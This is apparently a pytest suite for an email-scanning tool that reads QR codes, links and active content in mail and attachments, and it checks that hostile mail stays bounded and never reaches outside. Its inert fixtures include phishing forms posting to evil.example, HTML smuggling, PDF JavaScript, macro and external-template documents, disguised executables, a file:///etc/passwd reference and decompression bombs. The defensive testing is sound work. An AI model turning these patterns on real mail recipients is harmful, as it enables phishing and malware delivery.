"""Attachments and bodies are opened by what they are: codes, links and what acts are found wherever they hide."""

from __future__ import annotations

import bz2
import contextlib
import gzip
import io
import lzma
import re
import socket
import subprocess
import time
from base64 import b64encode
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from portero.core.mail.mime import read_mail
from portero.core.message.content import Content
from portero.opening.budget import Budget
from portero.opening.letter import open_content, read_letter, reported
from support.attachments import CODES, FILES, LINKS, TARGET, zipped
from support.compound import outlook
from support.letters import body, file_part, pdf, qr, text_part
from support.watched import nothing_outside


def opened(content: str | bytes, head: bytes = b"From: a@b.example\r\n") -> Content:
    octets = content if isinstance(content, bytes) else head + content.encode()
    mail = read_letter(octets)
    assert mail is not None
    return open_content(mail, Budget())


def codes(content: Content) -> list[str]:
    return [each.url for each in content.of_kind("code")]


def modules() -> list[list[bool]]:
    """Give the cells of a QR code."""
    image = Image.open(io.BytesIO(qr(TARGET))).convert("L")
    box = Image.eval(image, lambda value: 255 - value).getbbox()
    assert box is not None
    inner = image.crop(box)
    side = next(n for n in range(21, 60, 4) if inner.width % n == 0 and inner.width // n in (5, 6, 7))
    small = inner.resize((side, side), Image.Resampling.NEAREST)
    return [[small.getpixel((x, y)) < 128 for x in range(side)] for y in range(side)]


def block_letters() -> str:
    return "\n".join("".join("██" if dark else "  " for dark in row) for row in modules())


def half_letters() -> str:
    rows = modules()
    rows += [[False] * len(rows[0])] * (len(rows) % 2)
    letters = {(True, True): "█", (True, False): "▀", (False, True): "▄", (False, False): "\u00a0"}
    return "\n".join(
        "".join(letters[pair] for pair in zip(upper, lower, strict=True))
        for upper, lower in zip(rows[::2], rows[1::2], strict=True)
    )


def table() -> str:
    rows = "".join(
        "<tr>"
        + "".join(
            f'<td style="width:4px;background-color:{"#000" if dark else "#fff"}"></td>' for dark in row
        )
        + "</tr>"
        for row in modules()
    )
    return f"<table>{rows}</table>"


def svg_rects() -> bytes:
    cells = "".join(
        f'<rect x="{x * 4}" y="{y * 4}" width="4" height="4" fill="#000"/>'
        for y, row in enumerate(modules())
        for x, dark in enumerate(row)
        if dark
    )
    return f'<svg xmlns="http://www.w3.org/2000/svg"><rect width="200" height="200" fill="white"/>{cells}</svg>'.encode()


def svg_path() -> bytes:
    steps = "".join(
        f"M{x} {y}h1v1h-1z" for y, row in enumerate(modules()) for x, dark in enumerate(row) if dark
    )
    return f'<svg xmlns="http://www.w3.org/2000/svg"><path fill="#000" d="{steps}"/></svg>'.encode()


@pytest.mark.parametrize("name", CODES)
def test_a_code_is_read_whatever_file_it_is_in(name: str) -> None:
    held = opened(body(text_part("x"), file_part(name, "application/octet-stream", CODES[name])))

    assert codes(held) == [TARGET]
    assert held.gaps == ()


@pytest.mark.parametrize("name", LINKS)
def test_a_link_is_found_whatever_file_it_is_in(name: str) -> None:
    held = opened(body(text_part("x"), file_part(name, "application/octet-stream", LINKS[name])))

    assert TARGET in [each.url for each in held.doors]


@pytest.mark.parametrize(
    "content",
    [
        body(text_part("x"), file_part("a.bin", "application/octet-stream", pdf(qr(TARGET)))),
        body(text_part("x"), file_part("a.zip", "application/zip", zipped(**{"b.zip": zipped(**{"a.pdf": pdf(qr(TARGET))})}))),
        body(text_part("x"), file_part("a.svg", "image/svg+xml", svg_rects())),
        body(text_part("x"), file_part("a.svg", "image/svg+xml", svg_path())),
        text_part(block_letters()),
        text_part(half_letters()),
        text_part(f"<pre>{half_letters()}</pre>", "html"),
        text_part(table(), "html"),
    ],
    ids=["PDF by content", "zip in zip", "SVG rectangles", "SVG path", "blocks", "half blocks", "blocks in HTML", "table cells"],
)  # fmt: skip
def test_a_code_is_read_wherever_it_is(content: str) -> None:
    assert codes(opened(content)) == [TARGET]


@pytest.mark.parametrize("content", [text_part(half_letters()), text_part(table(), "html")])
def test_a_drawn_code_is_called_drawn(content: str) -> None:
    assert "drawn-code" in opened(content).traits


def test_html_is_seen_as_its_reader_sees_it() -> None:
    page = (
        '<div style="display:none">preview</div><p>Pay <a href="https://evil.example/x">https://bank.example</a></p>'
        '<span style="font-size:0">noise</span><form action="https://evil.example/post"><input type="password"></form>'
        '<img src="https://track.example/p.gif">'
    )

    held = opened(text_part(page, "html"))

    assert "preview" in held.hidden
    assert "noise" in held.hidden
    assert "preview" not in held.text
    assert next((each.url, each.words) for each in held.of_kind("link")) == (
        "https://evil.example/x",
        "https://bank.example",
    )
    assert {"form", "password-field"} <= held.traits
    assert held.remote_pictures == 1
    assert [each.url for each in held.of_kind("image")] == ["https://track.example/p.gif"]


@pytest.mark.parametrize(
    ("name", "octets", "kind", "trait"),
    [
        ("a.svg", b'<svg xmlns="x"><script>window.location="https://evil.example/a"</script></svg>', "svg", "script"),
        ("a.html", b"<html><script>var b=new Blob([atob('AAAA')]);URL.createObjectURL(b)</script></html>", "html", "smuggling"),
        ("a.htm", b'<html><input type="password"></html>', "html", "password-field"),
        ("a.pdf.html", b"<html>x</html>", "html", "misnamed"),
        ("a.pdf", b"MZ\x90\x00" + b"\x00" * 100, "program", "misnamed"),
        ("a.docm", zipped(**{"[Content_Types].xml": b"<x/>", "word__vbaProject.bin": b"x"}), "zip", "macro"),
        ("a.docx", zipped(**{"[Content_Types].xml": b"<x/>", "word___rels__settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'}), "zip", "external-template"),
        ("a.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>", "pdf", "javascript"),
        ("a.zip", zipped(**{"invoice.pdf.exe": b"MZ"}), "zip", ""),
    ],
    ids=["SVG script", "smuggling", "password page", "double ending", "program as PDF", "macro", "template", "PDF script", "program in zip"],
)  # fmt: skip
def test_what_acts_is_named(name: str, octets: bytes, kind: str, trait: str) -> None:
    held = opened(body(text_part("x"), file_part(name, "application/octet-stream", octets)))

    assert held.attachments[0].kind == kind
    assert trait in held.attachments[0].traits if trait else "program" in held.traits_of_attachments()


def test_links_of_documents_and_invitations_are_found() -> None:
    word = zipped(
        **{
            "[Content_Types].xml": b"<x/>",
            "word___rels__document.xml.rels": b'<Relationship Type="http://x/hyperlink" Target="https://a.example/1" TargetMode="External"/>',
        }
    )
    invitation = b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Pay\r\nDESCRIPTION:Join https://a.exa\r\n mple/2\\nnow\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"

    held = opened(
        body(
            text_part("x"), file_part("a.docx", "x/y", word), file_part("i.ics", "text/calendar", invitation)
        )
    )

    assert [each.url for each in held.doors] == ["https://a.example/1", "https://a.example/2"]
    assert held.calendar


def test_a_users_report_leads_to_the_original() -> None:
    original = b"From: c@d.example\r\nSubject: Original\r\n\r\nx\r\n"
    octets = (
        b"From: a@b.example\r\nSubject: 3|Original\r\n"
        + body(text_part("x"), file_part("o.eml", "message/rfc822", original)).encode()
    )

    found = reported(read_mail(octets))

    assert found is not None
    assert (found[0].text("subject"), found[1]) == ("Original", original)
    assert reported(read_mail(original)) is None


def _many_links() -> bytes:
    return text_part(
        "".join(f'<a href="https://h{n}.example/">x</a>' for n in range(50_000)), "html"
    ).encode()


def _large_picture() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, octets: bytes) -> bytes:
        return struct.pack(">I", len(octets)) + kind + octets + struct.pack(">I", zlib.crc32(kind + octets))

    data = zlib.compress(b"\x00" * (10_000 * 10_001), 9)
    png = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 10_000, 10_000, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", data)
        + chunk(b"IEND", b"")
    )
    return body(text_part("x"), file_part("a.png", "image/png", png)).encode()


def _bomb() -> bytes:
    return body(
        text_part("x"),
        file_part("a.zip", "application/zip", zipped(**{f"{n}.txt": b"0" * (30 << 20) for n in range(8)})),
    ).encode()


def _pdf_bomb() -> bytes:
    import zlib

    stream = zlib.compress(b"0 0 m 1 1 l S\n" * 3_000_000, 9)
    return body(text_part("x"), file_part("a.pdf", "application/pdf",
        b"%%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R"
        b"/MediaBox[0 0 600 800]/Contents 4 0 R>>endobj\n4 0 obj<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream endobj\ntrailer<</Root 1 0 R>>" % (len(stream), stream))).encode("latin-1", "replace")  # fmt: skip


@pytest.mark.parametrize(
    "octets",
    [
        _many_links(),
        _large_picture(),
        _bomb(),
        _pdf_bomb(),
        b"Subject: x\n"
        + b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(1000)),
        text_part("<div>" * 100_000, "html").encode(),
        text_part("<table><tr><td>" * 20_000, "html").encode(),
        text_part("█" * 500_000).encode(),
    ],
    ids=[
        "50,000 links",
        "100 megapixels",
        "zip bomb",
        "PDF bomb",
        "1,000 parts",
        "deep HTML",
        "deep tables",
        "one long line",
    ],
)
def test_hostile_mail_is_bounded(octets: bytes) -> None:
    start = time.process_time()

    opened(octets, b"") if octets.startswith(b"Subject") else opened(b"From: a@b.example\r\n" + octets)

    assert time.process_time() - start < 10


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (text_part("\r\n".join(f"https://h{n}.example/" for n in range(3000))), "It has more links than are looked at."),
        (body(text_part("x"), file_part("a.gz", "x/y", gzip.compress(bytes(100 << 20)))), "It unpacks to more than is opened."),
        (body(text_part("x"), file_part("a.bz2", "x/y", bz2.compress(bytes(100 << 20)))), "It unpacks to more than is opened."),
        (body(text_part("x"), file_part("a.xz", "x/y", lzma.compress(bytes(100 << 20)))), "It unpacks to more than is opened."),
    ],
    ids=["links", "gzip", "bzip2", "xz"],
)  # fmt: skip
def test_what_was_not_looked_at_is_said(content: str, said: str) -> None:
    assert said in [str(each) for each in opened(content).gaps]


@pytest.mark.parametrize("pack", [gzip.compress, bz2.compress, lzma.compress])
def test_a_packed_page_is_opened(pack: Callable[[bytes], bytes]) -> None:
    page = pack(b'<html><a href="https://evil.example/a">x</a></html>')

    held = opened(body(text_part("x"), file_part("a", "application/octet-stream", page)))

    assert "https://evil.example/a" in [each.url for each in held.doors]


def test_nothing_is_fetched_run_or_written() -> None:
    page = '<img src="https://a.example/p.gif"><link rel="stylesheet" href="https://a.example/s.css"><iframe src="https://a.example/"></iframe>'
    drawing = b'<svg><image href="https://a.example/p.png"/><image href="file:///etc/passwd"/></svg>'
    # Pillow would hand PostScript to Ghostscript.
    postscript = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n%%EndComments\nshowpage\n"

    with nothing_outside():
        opened(
            body(
                text_part(
                    f'{page}<img src="data:image/png;base64,{b64encode(postscript).decode()}">', "html"
                ),
                file_part("../../x.svg", "image/svg+xml", drawing),
                file_part("x.png", "image/png", postscript),
            )
        )


@pytest.mark.parametrize(
    "reach",
    [
        lambda: socket.create_connection(("127.0.0.1", 9), 0.01),
        lambda: subprocess.run(["true"], check=False),
        lambda: Path("/dev/null").write_text("x"),
        lambda: Path("/etc/hostname").read_text(),
    ],
)
def test_reaching_outside_would_be_noticed(reach: Callable[[], object]) -> None:
    with pytest.raises(AssertionError), nothing_outside(), contextlib.suppress(OSError):
        reach()


def test_the_mail_in_an_outlook_report_keeps_its_attachments() -> None:
    mail = read_letter(FILES["b.msg"])
    assert mail is not None

    original = reported(mail)

    assert original is not None
    assert original[0].text("subject") == "Original"
    assert codes(open_content(original[0], Budget())) == [TARGET]


def test_streams_that_overlap_give_no_more_than_they_may() -> None:
    held = bytearray(
        outlook(
            "From: a@b.example\r\n\r\n",
            "x",
            **{f"{n}.bin": b"x" * (400_000 if n == 0 else 1) for n in range(30)},
        )
    )
    # The directory entries of the attachments' data; each is made to name the first one's sectors.
    entries = [found.start() for found in re.finditer("__substg1.0_37010102".encode("utf-16-le"), held)]
    for at in entries:
        held[at + 116 : at + 128] = held[entries[0] + 116 : entries[0] + 128]

    mail = read_letter(bytes(held))

    assert mail is not None
    assert 400_000 <= sum(len(part.octets) for part in mail.parts) <= 4 * len(held)


FRONTS = [
    b"%PDF-1.4\n",
    b"PK\x03\x04",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"<svg>",
    b"<html>",
    b"\x89PNG\r\n\x1a\n",
    b"BEGIN:VCALENDAR\n",
    b"\x1f\x8b\x08",
    b"GIF89a",
    b"From: x\n\n",
    b"",
]


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from(FRONTS),
    st.binary(max_size=600),
    st.sampled_from(["a.pdf", "a.svg", "a.zip", "a.eml", "a.ics", ""]),
)
def test_no_attachment_raises(front: bytes, rest: bytes, name: str) -> None:
    opened(body(text_part("x"), file_part(name, "application/octet-stream", front + rest)))


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=500))
def test_no_message_raises(octets: bytes) -> None:
    mail = read_letter(octets)
    if mail is not None:
        open_content(mail, Budget())
